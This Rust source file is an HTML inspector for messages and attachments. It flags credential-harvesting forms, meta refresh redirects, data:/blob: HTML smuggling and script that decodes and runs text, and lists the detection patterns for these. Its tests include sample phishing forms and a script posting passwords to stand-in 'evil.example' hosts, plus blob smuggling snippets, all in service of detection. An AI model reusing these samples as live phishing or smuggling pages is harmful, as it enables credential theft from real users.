//! HTML pages as attachments and bodies: forms that post credentials,
//! meta refresh, data:/blob: smuggling, script that decodes and writes
//! the page, and the page's links.
//!
//! One pass finds every needle, ASCII case-insensitive and leftmost-longest
//! without overlap (as one Aho-Corasick automaton of them all would): the
//! tag needles by a `memchr` for `<`, the script needles by a packed (SIMD)
//! searcher over the page lower-cased, several times faster than an
//! automaton's byte-at-a-time walk. Only the few tags it lands on
//! (`<form`, `<input`, `<meta`, `<iframe`, `<a`) are read further, at most
//! [`MAX_TAGS`] of them, each within [`MAX_TAG_BYTES`]. Nothing is
//! allocated per byte, so it also runs on every message's HTML body.

use super::{Analysis, Budget, FindingCode};
use aho_corasick::packed;
use aho_corasick::Span;
use std::borrow::Cow;
use std::sync::OnceLock;

/// Tags read past their needle, per document.
const MAX_TAGS: usize = 4_000;
/// How far a tag is read looking for its `>`.
const MAX_TAG_BYTES: usize = 2_048;
/// `String.fromCharCode(` calls whose argument lists are counted.
const MAX_CHARCODE_LISTS: usize = 64;
/// Numbers in a `String.fromCharCode(` list that make it an encoded text.
const LONG_CHARCODE_LIST: usize = 16;

/// What a needle means.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Needle {
    Form,
    FormEnd,
    Input,
    Meta,
    Iframe,
    Anchor,
    /// Smuggling on its own (`data:text/html`, `new Blob(`, …).
    Smuggle(&'static str),
    /// `data:application/…`: smuggling when base64 follows.
    DataApplication,
    /// A decoder (`atob(`, …).
    Decode(&'static str),
    /// `String.fromCharCode(`: a decoder when its list is long.
    FromCharCode,
    /// A sink that writes or runs decoded text.
    Sink(&'static str),
    /// Script that posts data somewhere (`fetch(`, `$.ajax`).
    Post(&'static str),
}

const NEEDLES: &[(&str, Needle)] = &[
    ("<form", Needle::Form),
    ("</form", Needle::FormEnd),
    ("<input", Needle::Input),
    ("<meta", Needle::Meta),
    ("<iframe", Needle::Iframe),
    ("<a", Needle::Anchor),
    ("data:text/html", Needle::Smuggle("a data:text/html page")),
    ("data:application/", Needle::DataApplication),
    ("\"blob:", Needle::Smuggle("a blob: URL")),
    ("'blob:", Needle::Smuggle("a blob: URL")),
    ("createobjecturl", Needle::Smuggle("URL.createObjectURL")),
    ("new blob(", Needle::Smuggle("new Blob(")),
    ("mssaveoropenblob", Needle::Smuggle("msSaveOrOpenBlob")),
    ("mssaveblob", Needle::Smuggle("navigator.msSaveBlob")),
    ("atob(", Needle::Decode("atob(")),
    ("unescape(", Needle::Decode("unescape(")),
    ("decodeuricomponent(", Needle::Decode("decodeURIComponent(")),
    ("fromcharcode(", Needle::FromCharCode),
    ("document.write", Needle::Sink("document.write")),
    (".innerhtml", Needle::Sink("innerHTML")),
    (".outerhtml", Needle::Sink("outerHTML")),
    ("insertadjacenthtml", Needle::Sink("insertAdjacentHTML")),
    ("location.href", Needle::Sink("location.href")),
    ("location.replace(", Needle::Sink("location.replace")),
    ("location.assign(", Needle::Sink("location.assign")),
    ("location=", Needle::Sink("a location assignment")),
    ("location =", Needle::Sink("a location assignment")),
    ("eval(", Needle::Sink("eval(")),
    ("fetch(", Needle::Post("fetch(")),
    ("xmlhttprequest", Needle::Post("XMLHttpRequest")),
    ("$.ajax", Needle::Post("$.ajax")),
    ("$.post", Needle::Post("$.post")),
    ("jquery.ajax", Needle::Post("jQuery.ajax")),
    ("sendbeacon(", Needle::Post("sendBeacon(")),
];

/// The needles that do not open with `<` (script and URL needles), for a
/// packed searcher over lower-cased text, and their indices in [`NEEDLES`].
/// None if the packed searcher cannot be built (it always can for these
/// few lower-case needles; `scan_needles` then finds only the tags).
fn script_matcher() -> Option<&'static (packed::Searcher, Vec<usize>)> {
    static M: OnceLock<Option<(packed::Searcher, Vec<usize>)>> = OnceLock::new();
    M.get_or_init(|| {
        let ids: Vec<usize> = (NEEDLES.iter().enumerate())
            .filter(|(_, (n, _))| !n.starts_with('<'))
            .map(|(i, _)| i)
            .collect();
        let searcher = packed::Config::new()
            .match_kind(packed::MatchKind::LeftmostLongest)
            .builder()
            .extend(ids.iter().filter_map(|&i| NEEDLES.get(i).map(|(n, _)| n)))
            .build()?;
        Some((searcher, ids))
    })
    .as_ref()
}

/// A needle found: its index in [`NEEDLES`] and where it ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Hit {
    needle: usize,
    start: usize,
    end: usize,
}

/// The tag needles (in [`NEEDLES`]) by the byte after their `<`; a test
/// checks that these are all the needles opening with `<`.
const TAG_A: [usize; 1] = [5];
const TAG_F: [usize; 1] = [0];
const TAG_SLASH: [usize; 1] = [1];
const TAG_I: [usize; 2] = [2, 4];
const TAG_M: [usize; 1] = [3];

/// The first tag needle (opening with `<`) starting at or after `from`,
/// ASCII case-insensitive. No two tag needles match at one place (they
/// differ within their first three bytes and none is a prefix of another),
/// so the one found is also the longest there.
fn next_tag(bytes: &[u8], from: usize) -> Option<Hit> {
    let mut at = from;
    while let Some(found) = memchr::memchr(b'<', bytes.get(at..)?) {
        let start = at + found;
        let rest = bytes.get(start..).unwrap_or_default();
        // Most `<` open no tag needle: the byte after it rules out all
        // but one or two needles before any is compared.
        let candidates: &[usize] = match rest.get(1).map(u8::to_ascii_lowercase) {
            Some(b'a') => &TAG_A,
            Some(b'f') => &TAG_F,
            Some(b'/') => &TAG_SLASH,
            Some(b'i') => &TAG_I,
            Some(b'm') => &TAG_M,
            _ => &[],
        };
        let hit = candidates.iter().find_map(|&i| {
            let (n, _) = NEEDLES.get(i)?;
            let here = rest.get(..n.len())?;
            here.eq_ignore_ascii_case(n.as_bytes())
                .then_some((i, n.len()))
        });
        if let Some((needle, len)) = hit {
            return Some(Hit {
                needle,
                start,
                end: start + len,
            });
        }
        at = start + 1;
    }
    None
}

/// The first script needle starting at or after `from` in the lower-cased
/// text, leftmost-longest.
fn next_script(lower: &[u8], from: usize) -> Option<Hit> {
    let (searcher, ids) = script_matcher()?;
    if from >= lower.len() {
        return None;
    }
    let m = searcher.find_in(lower, Span::from(from..lower.len()))?;
    Some(Hit {
        needle: *ids.get(m.pattern().as_usize())?,
        start: m.start(),
        end: m.end(),
    })
}

/// Every needle of `html` in order, leftmost-longest without overlap, as
/// one ASCII case-insensitive automaton of all [`NEEDLES`] would find them:
/// the leftmost of the next tag and the next script needle is taken, and
/// each finder searches again only when the match taken passed its own
/// (a match starting at or after the new position is still the leftmost
/// longest from there). A tag and a script needle never start at one
/// place (no script needle starts with `<`).
struct Needles<'a> {
    bytes: &'a [u8],
    lower: Vec<u8>,
    tag: Option<Hit>,
    script: Option<Hit>,
}

impl<'a> Needles<'a> {
    fn new(html: &'a str) -> Needles<'a> {
        let bytes = html.as_bytes();
        let lower = bytes.to_ascii_lowercase();
        let tag = next_tag(bytes, 0);
        let script = next_script(&lower, 0);
        Needles {
            bytes,
            lower,
            tag,
            script,
        }
    }
}

impl Iterator for Needles<'_> {
    type Item = Hit;

    fn next(&mut self) -> Option<Hit> {
        let hit = match (self.tag, self.script) {
            (Some(t), Some(s)) if s.start < t.start => s,
            (Some(t), _) => t,
            (None, s) => s?,
        };
        let pos = hit.end;
        if self.tag.is_some_and(|t| t.start < pos) {
            self.tag = next_tag(self.bytes, pos);
        }
        if self.script.is_some_and(|s| s.start < pos) {
            self.script = next_script(&self.lower, pos);
        }
        Some(hit)
    }
}

/// A form being read: where it posts and what it asks for.
#[derive(Default)]
struct Form {
    action: Option<String>,
    password: bool,
    identity: bool,
}

/// What one pass found.
#[derive(Default)]
struct Scan {
    tags_left: usize,
    form: Option<Form>,
    credential: Option<String>,
    page_password: bool,
    smuggling: Option<String>,
    decoder: Option<&'static str>,
    sink: Option<&'static str>,
    post: Option<&'static str>,
    charcode_lists: usize,
}

/// Reads one HTML document into `out`.
pub(crate) fn inspect_html(html: &str, budget: &mut Budget, out: &mut Analysis) {
    scan_needles(html, budget, out);
    let limits = &budget.limits;
    let content = crate::html::read_html(html, html.len(), limits.max_text_bytes, limits.max_links);
    for anchor in &content.anchors {
        if is_web(&anchor.href) {
            out.url(&anchor.href, false, limits);
        }
    }
    out.push_text(&content.text, limits);
}

/// [`inspect_html`] for a message's own HTML body, whose text the caller
/// has already (the text pushed to `out` is left out): the findings, then
/// the web links of its anchors. `anchors` are the body's anchors when the
/// caller read them with at least `max_links` of the budget's limits (the
/// same first ones, as [`crate::html::read_html`] keeps anchors in order
/// whatever its limits); None reads them here.
pub(crate) fn inspect_html_body(
    html: &str,
    anchors: Option<&[crate::html::Anchor]>,
    budget: &mut Budget,
    out: &mut Analysis,
) {
    scan_needles(html, budget, out);
    let limits = &budget.limits;
    let read;
    let anchors = match anchors {
        Some(anchors) => anchors,
        None => {
            // No text is kept: the anchors are the same without it.
            read = crate::html::read_html(html, html.len(), 0, limits.max_links);
            &read.anchors
        }
    };
    for anchor in anchors.iter().take(limits.max_links) {
        if is_web(&anchor.href) {
            out.url(&anchor.href, false, limits);
        }
    }
}

/// The needle pass of [`inspect_html`]: findings, and the links of meta
/// refreshes, iframes and forms.
fn scan_needles(html: &str, budget: &mut Budget, out: &mut Analysis) {
    let limits = budget.limits.clone();
    let bytes = html.as_bytes();
    let mut scan = Scan {
        tags_left: MAX_TAGS,
        ..Scan::default()
    };
    for m in Needles::new(html) {
        let Some((_, needle)) = NEEDLES.get(m.needle) else {
            continue;
        };
        match *needle {
            Needle::Form | Needle::Input | Needle::Meta | Needle::Iframe | Needle::Anchor => {
                // `<a` must be the anchor tag, not `<abbr` or `<area`.
                let after = bytes.get(m.end).copied().unwrap_or(b'>');
                if !(after.is_ascii_whitespace() || after == b'>' || after == b'/') {
                    continue;
                }
                if scan.tags_left == 0 {
                    continue;
                }
                scan.tags_left -= 1;
                let Some(tag) = tag_at(html, m.start) else {
                    continue;
                };
                read_tag(*needle, tag, &mut scan, out, &limits);
            }
            Needle::FormEnd => close_form(&mut scan, out, &limits),
            Needle::Smuggle(what) => {
                scan.smuggling.get_or_insert_with(|| what.to_string());
            }
            Needle::DataApplication => {
                let near = window(bytes, m.end, 100);
                if contains_ignore_case(near, b";base64") {
                    scan.smuggling
                        .get_or_insert_with(|| "a base64 data:application/ file".to_string());
                }
            }
            Needle::Decode(what) => {
                scan.decoder.get_or_insert(what);
            }
            Needle::FromCharCode => {
                if scan.charcode_lists < MAX_CHARCODE_LISTS {
                    scan.charcode_lists += 1;
                    let list = window(bytes, m.end, 4096);
                    let end = memchr::memchr(b')', list).unwrap_or(list.len());
                    let commas =
                        memchr::memchr_iter(b',', list.get(..end).unwrap_or_default()).count();
                    if commas + 1 >= LONG_CHARCODE_LIST {
                        scan.decoder.get_or_insert("String.fromCharCode(");
                    }
                }
            }
            Needle::Sink(what) => {
                scan.sink.get_or_insert(what);
            }
            Needle::Post(what) => {
                scan.post.get_or_insert(what);
            }
        }
    }
    close_form(&mut scan, out, &limits);
    if scan.credential.is_none() && scan.page_password {
        if let Some(post) = scan.post {
            scan.credential = Some(format!("a password field that script sends with {post}"));
        }
    }
    if let Some(detail) = scan.credential {
        out.find(FindingCode::CredentialForm, detail);
    }
    if let Some(what) = scan.smuggling {
        out.find(
            FindingCode::Smuggling,
            format!("the page builds content from {what} (HTML smuggling)"),
        );
    }
    if let (Some(decoder), Some(sink)) = (scan.decoder, scan.sink) {
        out.find(
            FindingCode::ScriptDecodes,
            format!("script decodes text with {decoder} and writes or runs it with {sink}"),
        );
    }
}

/// The tag starting at `start`, up to its `>` (None when there is none
/// within [`MAX_TAG_BYTES`]).
fn tag_at(html: &str, start: usize) -> Option<&str> {
    let rest = html.as_bytes().get(start..)?;
    let limit = rest.get(..MAX_TAG_BYTES.min(rest.len()))?;
    let end = memchr::memchr(b'>', limit)?;
    html.get(start..start + end)
}

fn window(bytes: &[u8], from: usize, len: usize) -> &[u8] {
    let end = from.saturating_add(len).min(bytes.len());
    bytes.get(from..end).unwrap_or_default()
}

fn contains_ignore_case(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle))
}

fn is_web(href: &str) -> bool {
    let b = href.trim().as_bytes();
    let starts = |p: &[u8]| b.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p));
    starts(b"http://") || starts(b"https://") || starts(b"www.")
}

fn host_of(url: &str) -> Option<String> {
    url::Url::parse(url.trim())
        .ok()
        .and_then(|u| u.host_str().map(str::to_string))
}

fn read_tag(
    needle: Needle,
    tag: &str,
    scan: &mut Scan,
    out: &mut Analysis,
    limits: &super::AttachmentLimits,
) {
    match needle {
        Needle::Form => {
            close_form(scan, out, limits);
            scan.form = Some(Form {
                action: attr(tag, "action").map(Cow::into_owned),
                ..Form::default()
            });
        }
        Needle::Input => {
            let kind = attr(tag, "type").unwrap_or_default().to_ascii_lowercase();
            let names = format!(
                "{} {}",
                attr(tag, "name").unwrap_or_default(),
                attr(tag, "id").unwrap_or_default()
            )
            .to_ascii_lowercase();
            let password = kind == "password" || names.contains("pass") || names.contains("pwd");
            let identity = kind == "email"
                || ["email", "mail", "user", "login", "account", "username"]
                    .iter()
                    .any(|n| names.contains(n));
            match scan.form.as_mut() {
                Some(form) => {
                    form.password |= password;
                    form.identity |= identity;
                }
                None => scan.page_password |= password,
            }
        }
        Needle::Meta => {
            let refresh =
                attr(tag, "http-equiv").is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh"));
            if !refresh {
                return;
            }
            let content = attr(tag, "content").unwrap_or_default();
            let lower = content.to_ascii_lowercase();
            let Some(at) = lower.find("url=") else {
                return;
            };
            let target = content
                .get(at + 4..)
                .unwrap_or_default()
                .trim()
                .trim_matches(|c| c == '\'' || c == '"')
                .trim();
            if target.is_empty() {
                return;
            }
            let delay = content.split([';', ',']).next().unwrap_or("").trim();
            out.find(
                FindingCode::MetaRefresh,
                format!("the page sends the reader to {target} after {delay} s"),
            );
            out.url(target, false, limits);
        }
        Needle::Iframe => {
            if let Some(src) = attr(tag, "src") {
                if is_web(&src) {
                    out.url(&src, false, limits);
                }
            }
        }
        // A download attribute on a data: link writes a file from the page
        // itself.
        Needle::Anchor
            if attr(tag, "download").is_some()
                && attr(tag, "href").is_some_and(|h| {
                    h.trim_start()
                        .get(..5)
                        .is_some_and(|p| p.eq_ignore_ascii_case("data:"))
                }) =>
        {
            scan.smuggling
                .get_or_insert_with(|| "a download link to data: content".to_string());
        }
        _ => {}
    }
}

/// Ends the form being read, judging it.
fn close_form(scan: &mut Scan, out: &mut Analysis, limits: &super::AttachmentLimits) {
    let Some(form) = scan.form.take() else {
        return;
    };
    let action = form
        .action
        .as_deref()
        .map(str::trim)
        .filter(|a| !a.is_empty());
    let off_page = action.is_some_and(is_web);
    if off_page {
        if let Some(a) = action {
            out.url(a, false, limits);
        }
    }
    if scan.credential.is_some() {
        return;
    }
    let target = match action.and_then(host_of) {
        Some(host) => host,
        None => match action {
            Some(a) if !off_page => format!("{a:?} (relative)"),
            _ => "the page itself (script sends it)".to_string(),
        },
    };
    if form.password {
        scan.credential = Some(format!("a form posts a password to {target}"));
    } else if form.identity && off_page {
        scan.credential = Some(format!("a form posts sign-in fields to {target}"));
    }
}

/// The value of attribute `want` in a tag (`<input type="password" …`),
/// entities decoded; Some("") for a bare attribute.
pub(super) fn attr<'a>(tag: &'a str, want: &str) -> Option<Cow<'a, str>> {
    let b = tag.as_bytes();
    // Skip `<` and the tag name.
    let mut i = b
        .iter()
        .position(|c| c.is_ascii_whitespace())
        .unwrap_or(b.len());
    loop {
        while b
            .get(i)
            .is_some_and(|c| c.is_ascii_whitespace() || *c == b'/')
        {
            i += 1;
        }
        let name_start = i;
        while b
            .get(i)
            .is_some_and(|c| !c.is_ascii_whitespace() && *c != b'=' && *c != b'>' && *c != b'/')
        {
            i += 1;
        }
        if i == name_start {
            return None;
        }
        let name = tag.get(name_start..i)?;
        let mut j = i;
        while b.get(j).is_some_and(u8::is_ascii_whitespace) {
            j += 1;
        }
        let value = if b.get(j) == Some(&b'=') {
            j += 1;
            while b.get(j).is_some_and(u8::is_ascii_whitespace) {
                j += 1;
            }
            let (start, end, next) = match b.get(j) {
                Some(q @ (b'"' | b'\'')) => {
                    let start = j + 1;
                    let len = b
                        .get(start..)
                        .and_then(|r| memchr::memchr(*q, r))
                        .unwrap_or(b.len().saturating_sub(start));
                    (start, start + len, start + len + 1)
                }
                _ => {
                    let start = j;
                    let len = b
                        .get(start..)
                        .and_then(|r| r.iter().position(|c| c.is_ascii_whitespace() || *c == b'>'))
                        .unwrap_or(b.len().saturating_sub(start));
                    (start, start + len, start + len)
                }
            };
            i = next;
            tag.get(start..end).unwrap_or_default()
        } else {
            i = j;
            ""
        };
        if name.eq_ignore_ascii_case(want) {
            return Some(html_escape::decode_html_entities(value));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attachment::AttachmentLimits;

    fn read(html: &str) -> Analysis {
        let mut budget = Budget::new(&AttachmentLimits::default());
        let mut out = Analysis::default();
        inspect_html(html, &mut budget, &mut out);
        out
    }

    fn codes(a: &Analysis) -> Vec<FindingCode> {
        a.findings.iter().map(|f| f.code).collect()
    }

    /// What one ASCII case-insensitive leftmost-longest automaton of every
    /// needle finds: the reading `Needles` must give.
    fn automaton_hits(html: &str) -> Vec<(usize, usize, usize)> {
        let ac = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(aho_corasick::MatchKind::LeftmostLongest)
            .build(NEEDLES.iter().map(|(n, _)| n))
            .unwrap();
        ac.find_iter(html)
            .map(|m| (m.pattern().as_usize(), m.start(), m.end()))
            .collect()
    }

    #[test]
    fn the_tag_tables_name_every_needle_opening_with_a_bracket() {
        let mut listed: Vec<usize> = [&TAG_A[..], &TAG_F, &TAG_SLASH, &TAG_I, &TAG_M]
            .concat()
            .into_iter()
            .inspect(|&i| {
                let (n, _) = NEEDLES[i];
                let second = n.as_bytes()[1];
                let table: &[usize] = match second {
                    b'a' => &TAG_A,
                    b'f' => &TAG_F,
                    b'/' => &TAG_SLASH,
                    b'i' => &TAG_I,
                    b'm' => &TAG_M,
                    _ => &[],
                };
                assert!(table.contains(&i), "{n} is listed under another byte");
            })
            .collect();
        listed.sort_unstable();
        let tags: Vec<usize> = (0..NEEDLES.len())
            .filter(|&i| NEEDLES[i].0.starts_with('<'))
            .collect();
        assert_eq!(listed, tags);
    }

    #[test]
    fn tags_and_script_needles_are_found_as_one_automaton_finds_them() {
        // Overlaps between a tag and a script needle ("<atob("), case,
        // adjacent and nested needles, non-ASCII text around them.
        let mut cases: Vec<String> = [
            "<atob(x)",
            "<A HREF=x>eval(1)</A>",
            "<a<a<a<form</form<FORM",
            "location =location=LOCATION.HREF location.replace(",
            "data:application/x;base64 data:text/html, \"blob: 'blob:",
            "x.innerHTML=unescape(atob('...')) document.write(eval(",
            "é<iframe src=x>ü<Input type=password><meta http-equiv=refresh>",
            "$.ajax $.post jquery.ajax fetch( sendBeacon( XMLHttpRequest",
            "<a",
            "",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        // Deterministic pseudo-random pages of needle pieces and filler.
        let pieces: Vec<&str> = NEEDLES
            .iter()
            .flat_map(|(n, _)| [*n, n.get(..n.len() / 2).unwrap_or_default()])
            .chain(["<", "a", " ", "=", "(", "é", "LOCATION", "Blob:", "<A", ">"])
            .collect();
        let mut state = 0x2545_f491_4f6c_dd1du64;
        for _ in 0..2_000 {
            let mut page = String::new();
            for _ in 0..24 {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                let piece = pieces.get(state as usize % pieces.len()).unwrap();
                if state & 0x100 != 0 {
                    page.push_str(&piece.to_ascii_uppercase());
                } else {
                    page.push_str(piece);
                }
            }
            cases.push(page);
        }
        for html in &cases {
            let ours: Vec<(usize, usize, usize)> = Needles::new(html)
                .map(|h| (h.needle, h.start, h.end))
                .collect();
            assert_eq!(ours, automaton_hits(html), "{html:?}");
        }
    }

    #[test]
    fn attributes_are_read_quoted_unquoted_and_bare() {
        let tag = r#"<input TYPE=password name='pw' data-x="a &amp; b" required"#;
        assert_eq!(attr(tag, "type").as_deref(), Some("password"));
        assert_eq!(attr(tag, "name").as_deref(), Some("pw"));
        assert_eq!(attr(tag, "data-x").as_deref(), Some("a & b"));
        assert_eq!(attr(tag, "required").as_deref(), Some(""));
        assert_eq!(attr(tag, "id"), None);
        assert_eq!(
            attr("<input name=\"unterminated", "name").as_deref(),
            Some("unterminated")
        );
    }

    #[test]
    fn a_password_form_is_a_credential_form_naming_its_host() {
        let a = read(
            r#"<form method="post" action="https://collect.evil.example/p.php"><input type="email" name="u"><input type="password" name="p"></form>"#,
        );
        let f = a.findings.first().expect("a finding");
        assert_eq!(f.code, FindingCode::CredentialForm);
        assert!(f.detail.contains("collect.evil.example"), "{}", f.detail);
        assert!(a
            .urls
            .iter()
            .any(|u| u.url == "https://collect.evil.example/p.php"));
    }

    #[test]
    fn a_search_form_is_not_a_credential_form() {
        let a = read(r#"<form action="/search"><input name="q"></form>"#);
        assert!(codes(&a).is_empty(), "{:?}", a.findings);
        let b = read(r#"<form action="https://news.example/sub"><input name="zip"></form>"#);
        assert!(codes(&b).is_empty(), "{:?}", b.findings);
    }

    #[test]
    fn a_password_field_posted_by_script_is_a_credential_form() {
        let a = read(
            r#"<input id="pwd" type="text"><script>$.ajax({url:"https://x.example/n.php",data:{p:$('#pwd').val()}})</script>"#,
        );
        assert_eq!(codes(&a), vec![FindingCode::CredentialForm]);
    }

    #[test]
    fn meta_refresh_reports_and_links_its_target() {
        let a = read(
            r#"<META HTTP-EQUIV="Refresh" CONTENT="0; URL='https://land.example/x?a=1&amp;b=2'">"#,
        );
        assert_eq!(codes(&a), vec![FindingCode::MetaRefresh]);
        assert_eq!(
            a.urls.first().map(|u| u.url.as_str()),
            Some("https://land.example/x?a=1&b=2")
        );
    }

    #[test]
    fn blob_smuggling_with_atob_is_smuggling_and_a_decode() {
        let a = read(
            "<script>var d=atob('PGh0bWw+');var b=new Blob([d],{type:'text/html'});var u=URL.createObjectURL(b);document.write(d);</script>",
        );
        let c = codes(&a);
        assert!(c.contains(&FindingCode::Smuggling), "{c:?}");
        assert!(c.contains(&FindingCode::ScriptDecodes), "{c:?}");
    }

    #[test]
    fn a_decoder_without_a_sink_is_not_reported() {
        let a = read("<script>var d = atob('aGk=');</script>");
        assert!(codes(&a).is_empty());
        let short = read("<script>eval(String.fromCharCode(104,105))</script>");
        assert!(codes(&short).is_empty());
        let long = format!(
            "<script>eval(String.fromCharCode({}))</script>",
            vec!["104"; 20].join(",")
        );
        assert_eq!(codes(&read(&long)), vec![FindingCode::ScriptDecodes]);
    }

    #[test]
    fn data_links_are_smuggling_but_data_images_are_not() {
        assert!(
            codes(&read(r#"<a href="data:application/zip;base64,UEsD">x</a>"#))
                .contains(&FindingCode::Smuggling)
        );
        assert!(codes(&read(r#"<iframe src="data:text/html,hi"></iframe>"#))
            .contains(&FindingCode::Smuggling));
        assert!(codes(&read(r#"<a download="a.zip" href="data:,x">x</a>"#))
            .contains(&FindingCode::Smuggling));
        assert!(codes(&read(r#"<img src="data:image/png;base64,iVBOR">"#)).is_empty());
    }

    #[test]
    fn anchors_become_links_and_text_is_kept() {
        let a = read(
            r#"<p>Pay now</p><a href="https://pay.example/i">here</a><a href="mailto:x@y">m</a>"#,
        );
        assert_eq!(a.urls.len(), 1);
        assert!(a.text.contains("Pay now"), "{}", a.text);
    }

    #[test]
    fn a_flood_of_unclosed_tags_after_a_form_still_reports_the_form() {
        let mut html =
            String::from(r#"<form action="https://e.example/"><input type=password></form>"#);
        html.push_str(&"<input ".repeat(400_000));
        let a = read(&html);
        assert_eq!(codes(&a), vec![FindingCode::CredentialForm]);
    }
}
